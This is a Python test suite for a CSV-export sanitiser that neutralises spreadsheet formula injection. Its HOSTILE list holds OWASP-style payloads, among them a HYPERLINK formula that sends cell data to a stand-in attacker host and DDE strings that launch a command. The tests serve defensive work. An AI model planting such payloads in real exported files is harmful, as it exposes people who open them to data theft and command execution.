"""CSV cells that spreadsheets would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fangkong.core.privacy.csv_safety import (
    FORMULA_STARTS,
    SafeDictWriter,
    SafeWriter,
    safe_cell,
    safe_csv_text,
    safe_row,
)

#: Payloads from the OWASP CSV Injection page and the usual proofs of concept.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "－1+1",
    "=",
    "-",
    "@",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-3, 2.5, -0.5, 0, None, True, "-3", "+12", "-1.5e3", ".5", "武汉", "420100", "a=b"]
)
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert safe_cell(value) is value


def test_writer_and_dict_writer_neutralise_every_cell() -> None:
    out = io.StringIO()
    writer = SafeWriter(out, lineterminator="\n")
    writer.writerow(["name", "count"])
    writer.writerows([["=1+1", -5], ["ok", 3]])
    dict_out = io.StringIO()
    dict_writer = SafeDictWriter(dict_out, fieldnames=["name", "count"], lineterminator="\n")
    dict_writer.writeheader()
    dict_writer.writerows([{"name": "=1+1", "count": -5}])
    dict_writer.writerow({"name": "ok", "count": 3})
    assert out.getvalue() == dict_out.getvalue() == "name,count\n'=1+1,-5\nok,3\n"
    text = safe_csv_text(["a"], [["@x"]], lineterminator="\n")
    assert text == "a\n'@x\n"


@given(st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_no_cell_read_back_starts_a_formula(row: list[str]) -> None:
    out = io.StringIO()
    SafeWriter(out).writerow(row)
    (read,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(read) == len(row)
    for original, cell in zip(row, read, strict=True):
        assert cell[:1] not in FORMULA_STARTS or cell == original
        assert cell in (original, "'" + original)
    assert safe_row(row) == read


@pytest.mark.parametrize("terminator", ["\n", "\r\n"])
def test_line_breaks_inside_cells_are_always_quoted(terminator: str) -> None:
    out = io.StringIO()
    SafeWriter(out, lineterminator=terminator).writerows([["a\rb", "c\nd"], ["e", 1]])
    assert out.getvalue() == f'"a\rb","c\nd"{terminator}e,1{terminator}'
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["a\rb", "c\nd"],
        ["e", "1"],
    ]
